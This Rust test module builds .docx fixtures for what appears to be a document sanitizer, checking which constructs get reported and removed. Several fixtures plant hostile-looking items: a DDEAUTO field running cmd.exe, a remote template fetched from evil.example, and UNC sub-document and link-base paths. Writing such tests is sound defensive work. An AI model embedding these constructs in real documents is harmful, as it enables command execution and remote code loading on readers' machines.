//! The danger matrix: Word (OOX-W): what stands in the text and around it, custom XML stores (OOX-P08) and properties (OPC-06 to OPC-08).

use super::cases_objects::planted;
use super::cases_word::with_header;
use super::package::{AV, Package, png};
use super::word::{DOC, NS, document, drawing, field};
use crate::matrix::{Case, Expect, Shape};

const MS: &str = "http://schemas.microsoft.com/office/";
const PK: &str = "http://schemas.openxmlformats.org/package/2006/relationships/";
const W: &str = "xmlns:q=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
const STORE: &str = "{11111111-2222-3333-4444-555555555555}";
const APP: &str = "{6668398D-A668-4E3E-A5EB-62B293D839F1}";

fn run(inside: &str) -> String {
    format!("<w:p><w:r>{inside}</w:r></w:p>")
}

/// A content control around 残る値 with these properties.
fn control(properties: &str) -> String {
    format!(
        "<w:sdt><w:sdtPr>{properties}</w:sdtPr><w:sdtContent><w:p><w:r><w:t>残る値</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
}

fn bound(store: &str, path: &str) -> String {
    control(&format!("<w:dataBinding w:xpath=\"{path}\" w:storeItemID=\"{store}\"/><w:text/>"))
}

fn store(package: Package, item: &str) -> Package {
    package
        .rel(DOC, "rIdX", "customXml", "../customXml/item1.xml")
        .part("customXml/item1.xml", "", item)
        .rel("customXml/item1.xml", "rId1", "customXmlProps", "itemProps1.xml")
        .part(
            "customXml/itemProps1.xml",
            &format!("{AV}customXmlProperties+xml"),
            format!("<ds:datastoreItem ds:itemID=\"{STORE}\" xmlns:ds=\"http://schemas.openxmlformats.org/officeDocument/2006/customXml\"><ds:schemaRefs><ds:schemaRef ds:uri=\"urn:evil-schema\"/></ds:schemaRefs></ds:datastoreItem>"),
        )
}

fn app(package: Package, kind: &str, inside: &str) -> Package {
    package.rel("", "rIdA", kind, "docProps/app.xml").part(
        "docProps/app.xml",
        &format!("{AV}extended-properties+xml"),
        format!("<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\">{inside}</Properties>"),
    )
}

fn core(package: Package, kind: &str, inside: &str) -> Package {
    package.rel("", "rIdC", kind, "docProps/core.xml").part(
        "docProps/core.xml",
        "application/vnd.openxmlformats-package.core-properties+xml",
        format!("<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:dcterms=\"http://purl.org/dc/terms/\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\">{inside}</cp:coreProperties>"),
    )
}

fn people(inside: &str) -> Package {
    document("").rel(DOC, "rIdP", &format!("{MS}2011/relationships/people"), "people.xml").part(
        "word/people.xml",
        &format!("{AV}wordprocessingml.people+xml"),
        format!("<w15:people {NS}>{inside}</w15:people>"),
    )
}

fn glossary(body: &str) -> Package {
    document("").rel(DOC, "rIdG", "glossaryDocument", "glossary/document.xml").part(
        "word/glossary/document.xml",
        &format!("{AV}wordprocessingml.document.glossary+xml"),
        format!("<w:glossaryDocument {NS}><w:docParts><w:docPart><w:docPartPr><w:name w:val=\"定型句\"/></w:docPartPr><w:docPartBody>{body}</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"),
    )
}

/// The cases.
pub(super) fn cases() -> Vec<Case> {
    let case = |id, shape, what, expect, plant| Case { id, shape, what, expect, plant };
    let told = Expect::Reported;
    let quiet = Expect::Untouched;
    use Shape::{Disguised, Neighbour, Plain};
    vec![
        case("OOX-W12", Plain, "bound to a store that is not there", told("office.custom-xml"), || {
            planted("bound.docx", &document(&bound(STORE, "/a[1]")), &["dataBinding"], &["残る値", "<w:text/>"])
        }),
        case("OOX-W12", Disguised, "bound to a property that is not written back", told("office.custom-xml"), || {
            let package = app(
                document(&bound(APP, "/ns0:Properties[1]/ns0:HyperlinkBase[1]")),
                "extended-properties",
                "<Company>市役所</Company><HyperlinkBase>evil</HyperlinkBase>",
            );
            planted("bound2.docx", &package, &["dataBinding", "evil"], &["残る値", "市役所"])
        }),
        case("OOX-W12", Disguised, "a control that talks to an add-in", told("office.web-extension"), || {
            let properties = "<w:tag w:val=\"札\"/><w15:webExtensionLinked w:val=\"1\"/><w15:webExtensionCreated/>";
            planted("linked.docx", &document(&control(properties)), &["webExtension"], &["残る値", "札"])
        }),
        case("OOX-W12", Neighbour, "controls of a form, one bound to the company", quiet, || {
            let properties = "<w:rPr><w:b/></w:rPr><w:alias w:val=\"会社\"/><w:tag w:val=\"札\"/><w:id w:val=\"5\"/><w:lock w:val=\"sdtLocked\"/><w:showingPlcHdr/><w:temporary/><w15:appearance w15:val=\"tags\"/><w:dropDownList><w:listItem w:displayText=\"甲\" w:value=\"1\"/></w:dropDownList>";
            let body = [
                control(properties),
                control("<w14:checkbox><w14:checked w14:val=\"1\"/></w14:checkbox>"),
                control("<w15:repeatingSection/>"),
                control("<w15:repeatingSectionItem/>"),
                control("<w:group/>"),
                control("<w:date w:fullDate=\"2026-04-01T00:00:00Z\"><w:dateFormat w:val=\"ggge年M月d日\"/></w:date>"),
                bound(&APP.to_lowercase(), "/ns0:Properties[1]/ns0:Company[1]"),
            ]
            .concat();
            let kept = [
                "sdtLocked",
                "w:temporary",
                "w15:appearance",
                "甲",
                "w14:checkbox",
                "w15:repeatingSection/",
                "w15:repeatingSectionItem",
                "w:group",
                "ggge年M月d日",
                "ns0:Company[1]",
                "市役所",
            ];
            planted(
                "controls.docx",
                &app(document(&body), "extended-properties", "<Company>市役所</Company>"),
                &[],
                &kept,
            )
        }),
        case("OOX-W13", Plain, "a smart tag", told("office.smart-tag"), || {
            let body = "<w:p><w:smartTag w:uri=\"urn:evil\" w:element=\"place\"><w:smartTagPr><w:attr w:name=\"a\" w:val=\"evil-value\"/></w:smartTagPr><w:r><w:t>残る地名</w:t></w:r></w:smartTag></w:p>";
            planted("smart.docx", &document(body), &["urn:evil", "evil-value", "smartTag"], &["残る地名"])
        }),
        case("OOX-W13", Disguised, "markup around rows, in a change, another prefix", told("office.smart-tag"), || {
            let body = format!(
                "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><q:customXml {W} q:uri=\"urn:evil\" q:element=\"a\"><q:customXmlPr><q:attr q:name=\"b\" q:val=\"evil-value\"/></q:customXmlPr><w:customXmlInsRangeStart w:id=\"4\" w:author=\"a\"/><w:tr><q:customXml q:uri=\"urn:evil\" q:element=\"c\"><w:tc><q:customXml q:uri=\"urn:evil\" q:element=\"d\"/></w:tc></q:customXml></w:tr><w:customXmlInsRangeEnd w:id=\"4\"/></q:customXml></w:tbl>"
            );
            planted(
                "smart2.docx",
                &document(&body),
                &["urn:evil", "evil-value", "customXml"],
                &["<w:tr><w:tc><w:p/></w:tc></w:tr>"],
            )
        }),
        case("OOX-W13", Neighbour, "a change of direction around words", quiet, || {
            let body = "<w:p><w:bdo w:val=\"rtl\"><w:r><w:t>逆の文字</w:t></w:r></w:bdo></w:p>";
            planted("bdo.docx", &document(body), &[], &["<w:bdo w:val=\"rtl\">", "逆の文字"])
        }),
        case("OOX-W15", Plain, "an account in the list of people", told("office.identity"), || {
            let package = people(
                "<w15:person w15:author=\"山田\"><w15:presenceInfo w15:providerId=\"AD\" w15:userId=\"S::yamada@secret.lg.jp\"/></w15:person>",
            );
            planted("people.docx", &package, &["secret.lg.jp", "presenceInfo"], &["w15:author=\"山田\""])
        }),
        case("OOX-W15", Disguised, "another prefix", told("office.identity"), || {
            let package = people(
                "<k:person xmlns:k=\"http://schemas.microsoft.com/office/word/2012/wordml\" k:author=\"山田\"><k:presenceInfo k:providerId=\"Windows Live\" k:userId=\"secret-id\"/></k:person>",
            );
            planted("people2.docx", &package, &["secret-id", "presenceInfo"], &["author=\"山田\""])
        }),
        case("OOX-W15", Neighbour, "people with a name alone", quiet, || {
            let package = people("<w15:person w15:author=\"山田\"/>");
            planted("people3.docx", &package, &[], &["w15:author=\"山田\""])
        }),
        case("OOX-W16", Plain, "a dangerous field in a building block", told("office.field"), || {
            let body = format!("<w:p>{}</w:p>", field(&[" DDEAUTO cmd.exe x "], "結果"));
            planted("glossary.docx", &glossary(&body), &["cmd.exe"], &["結果", "定型句"])
        }),
        case("OOX-W16", Disguised, "settings of its own with a template", told("office.attached-template"), || {
            const G: &str = "word/glossary/document.xml";
            let package = glossary("<w:p/>")
                .rel(G, "rIdS", "settings", "settings.xml")
                .part(
                    "word/glossary/settings.xml",
                    &format!("{AV}wordprocessingml.settings+xml"),
                    format!("<w:settings {NS}><w:attachedTemplate r:id=\"rIdT\"/><w:evenAndOddHeaders/></w:settings>"),
                )
                .external("word/glossary/settings.xml", "rIdT", "attachedTemplate", "http://evil.example/t.dotm");
            planted("glossary2.docx", &package, &["evil.example", "attachedTemplate"], &["evenAndOddHeaders", "定型句"])
        }),
        case("OOX-W16", Neighbour, "a placeholder in its place", quiet, || {
            let package = glossary("<w:p><w:r><w:t>ここに入力</w:t></w:r></w:p>");
            planted("glossary3.docx", &package, &[], &["ここに入力", "定型句", "w:docPartBody"])
        }),
        case("OOX-W20", Plain, "a cell whose only content goes", told("office.sub-document"), || {
            let package = document("<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:subDoc r:id=\"rIdC\"/></w:tc></w:tr></w:tbl>")
                .external(DOC, "rIdC", "subDocument", "\\\\evil.example\\a.docx");
            planted("cell.docx", &package, &["subDoc"], &["<w:tc><w:p/></w:tc>"])
        }),
        case("OOX-W20", Plain, "a header whose only content goes", told("office.smart-tag"), || {
            let package = with_header("", "<w:customXml w:uri=\"urn:evil\" w:element=\"a\"/>");
            planted("header.docx", &package, &["urn:evil"], &["<w:p/></w:hdr>"])
        }),
        case(
            "OOX-W20",
            Disguised,
            "marks of comments that are not there, ends without a beginning",
            Expect::Silent,
            || {
                let body = "<w:p><w:commentRangeStart w:id=\"3\"/><w:r><w:t>文</w:t></w:r><w:commentRangeEnd w:id=\"3\"/><w:r><w:commentReference w:id=\"3\"/></w:r><w:bookmarkEnd w:id=\"8\"/></w:p>";
                planted("pairs.docx", &document(body), &["commentR", "bookmarkEnd"], &[])
            },
        ),
        case("OOX-W20", Neighbour, "a table in a table, a comment, a bookmark", quiet, || {
            let body = "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl><w:p><w:commentRangeStart w:id=\"3\"/><w:bookmarkStart w:id=\"8\" w:name=\"印\"/><w:r><w:t>文</w:t></w:r><w:bookmarkEnd w:id=\"8\"/><w:commentRangeEnd w:id=\"3\"/><w:r><w:commentReference w:id=\"3\"/></w:r></w:p></w:tc></w:tr></w:tbl>";
            let package = document(body).rel(DOC, "rIdC", "comments", "comments.xml").part(
                "word/comments.xml",
                &format!("{AV}wordprocessingml.comments+xml"),
                format!("<w:comments {NS}><w:comment w:id=\"3\" w:author=\"山田\"><w:p><w:r><w:t>所見</w:t></w:r></w:p></w:comment></w:comments>"),
            );
            let kept = [
                "commentRangeStart",
                "commentRangeEnd",
                "commentReference",
                "bookmarkStart",
                "bookmarkEnd",
                "所見",
                "山田",
            ];
            planted("whole.docx", &package, &[], &kept)
        }),
        case("OOX-P08", Plain, "a query of Power Query", told("office.custom-xml"), || {
            let package = store(
                document(""),
                "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">ZXZpbA==</DataMashup>",
            );
            planted("mashup.docx", &package, &["DataMashup", "ZXZpbA==", "urn:evil-schema"], &[])
        }),
        case("OOX-P08", Disguised, "a query that a control is bound to", told("office.custom-xml"), || {
            let package = store(
                document(&bound(STORE, "/m:DataMashup")),
                "<m:DataMashup xmlns:m=\"http://schemas.microsoft.com/DataMashup\">ZXZpbA==</m:DataMashup>",
            );
            planted("mashup2.docx", &package, &["DataMashup", "ZXZpbA==", "dataBinding"], &["残る値"])
        }),
        case("OOX-P08", Disguised, "a query inside the store of a bound control", told("office.custom-xml"), || {
            let item = "<n:a xmlns:n=\"urn:form\"><n:b>山田</n:b><DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">ZXZpbA==</DataMashup></n:a>";
            planted(
                "mashup3.docx",
                &store(document(&bound(STORE, "/n:a/n:b")), item),
                &["DataMashup", "ZXZpbA=="],
                &["残る値", "山田"],
            )
        }),
        case("OOX-P08", Disguised, "a store nothing is bound to", told("office.custom-xml"), || {
            let package = store(document(""), "<note xmlns=\"urn:nobody\">evil payload</note>");
            planted("store.docx", &package, &["evil payload", "urn:nobody"], &[])
        }),
        case("OOX-P08", Neighbour, "the store of a bound control", quiet, || {
            let package = store(
                document(&bound(&STORE.to_lowercase(), "/n:様式[1]/n:氏名[1]")),
                "<n:様式 xmlns:n=\"urn:form\"><n:氏名>山田　太郎</n:氏名></n:様式>",
            );
            planted("form.docx", &package, &["urn:evil-schema"], &["山田　太郎", "dataBinding", "urn:form", STORE])
        }),
        case("OPC-06", Plain, "a signature", told("office.signature"), || {
            let package = document("")
                .rel("", "rIdG", &format!("{PK}digital-signature/origin"), "_xmlsignatures/origin.sigs")
                .part("_xmlsignatures/origin.sigs", "", "evil origin");
            planted("signed.docx", &package, &["_xmlsignatures", "evil origin"], &[])
        }),
        case("OPC-06", Disguised, "under another name, and in the properties", told("office.signature"), || {
            let package = document("")
                .rel("", "rIdG", &format!("{PK}digital-signature/origin"), "word/theme/theme1.xml")
                .part("word/theme/theme1.xml", "application/xml", "<evil-origin/>");
            let package = app(
                package,
                "extended-properties",
                "<Company>市役所</Company><DigSig><vt:blob xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\">ZXZpbA==</vt:blob></DigSig>",
            );
            planted("signed2.docx", &package, &["evil-origin", "ZXZpbA", "DigSig", "theme1"], &["市役所"])
        }),
        case("OPC-06", Neighbour, "a picture of a seal", quiet, || {
            let package =
                document(&format!("{}{}", run("<w:t>電子署名の手引き</w:t>"), drawing("<a:blip r:embed=\"rIdPic\"/>")))
                    .rel(DOC, "rIdPic", "image", "media/signature.png")
                    .part("word/media/signature.png", "", png());
            planted("seal.docx", &package, &[], &["電子署名の手引き", "rIdPic"])
        }),
        case("OPC-07", Plain, "a thumbnail", told("office.thumbnail"), || {
            let package = document("")
                .rel("", "rIdG", &format!("{PK}metadata/thumbnail"), "docProps/thumbnail.emf")
                .part("docProps/thumbnail.emf", "image/x-emf", "evil emf");
            planted("thumb.docx", &package, &["thumbnail", "evil emf", "emf"], &[])
        }),
        case("OPC-07", Disguised, "the Strict type, the name of a picture", told("office.thumbnail"), || {
            let package = document("")
                .rel(
                    "",
                    "rIdG",
                    "http://purl.oclc.org/ooxml/officeDocument/relationships/metadata/thumbnail",
                    "word/media/image1.png",
                )
                .part("word/media/image1.png", "image/png", "evil picture");
            planted("thumb2.docx", &package, &["thumbnail", "evil picture", "image1"], &[])
        }),
        case("OPC-07", Neighbour, "a picture called thumbnail in the text", quiet, || {
            let package = document(&drawing("<a:blip r:embed=\"rIdPic\"/>"))
                .rel(DOC, "rIdPic", "image", "media/thumbnail.png")
                .part("word/media/thumbnail.png", "", png());
            planted("thumb3.docx", &package, &[], &["r:embed=\"rIdPic\""])
        }),
        case("OPC-08", Plain, "a base of links, properties of one's own", told("office.metadata"), || {
            let package = app(document(""), "extended-properties", "<Template>\\\\evil.example\\t.dotm</Template><Company>市役所</Company><HyperlinkBase>\\\\evil.example\\</HyperlinkBase>")
                .rel("", "rIdQ", "custom-properties", "docProps/custom.xml")
                .part("docProps/custom.xml", "", "<Properties>evil label</Properties>");
            planted("props.docx", &package, &["evil.example", "evil label", "HyperlinkBase"], &["市役所"])
        }),
        case("OPC-08", Disguised, "under the misspelt types of real files", told("office.metadata"), || {
            let package = core(
                document(""),
                "http://schemas.openxmlformats.org/package/2006/relationships/meatadata/core-properties",
                "<dc:title>報告</dc:title><cp:contentType>evil-type</cp:contentType>",
            );
            let package = app(
                package,
                "http://schemas.openxmlformats.org/package/2006/relationships/metadata/extended-properties",
                "<Company>市役所</Company><HLinks><evil/></HLinks>",
            );
            planted("props2.docx", &package, &["evil", "HLinks", "meatadata"], &["報告", "市役所"])
        }),
        case("OPC-08", Neighbour, "title, author, dates", quiet, || {
            let package = core(
                document(""),
                &format!("{PK}metadata/core-properties"),
                "<dc:title>http://の説明</dc:title><dc:creator>総務課</dc:creator><cp:keywords>予算</cp:keywords><dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-04-01T00:00:00Z</dcterms:created>",
            );
            let package = app(
                package,
                "extended-properties",
                "<Pages>3</Pages><Application>Microsoft Office Word</Application><Company>市役所</Company>",
            );
            let kept = ["http://の説明", "総務課", "予算", "2026-04-01T00:00:00Z", "<Pages>3</Pages>", "市役所"];
            planted("props3.docx", &package, &[], &kept)
        }),
    ]
}
